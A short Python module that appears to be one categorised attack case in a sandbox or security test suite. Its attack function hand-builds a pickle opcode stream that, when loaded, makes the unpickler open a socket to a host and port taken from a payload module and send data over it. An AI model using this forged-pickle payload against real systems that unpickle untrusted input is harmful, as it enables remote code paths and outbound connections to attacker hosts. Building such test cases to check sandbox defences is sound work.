"""An unpickler in Python gets the module for whoever calls it."""
CATEGORY = "forging"
REACH = "net"

import pickle

from . import payload


def attack():
    data = (b"csocket\ncreate_connection\n((V%s\nI%d\nttR." % (
        payload.HOST.encode(), payload.PORT))
    pickle._loads(data).sendall(b"evil")
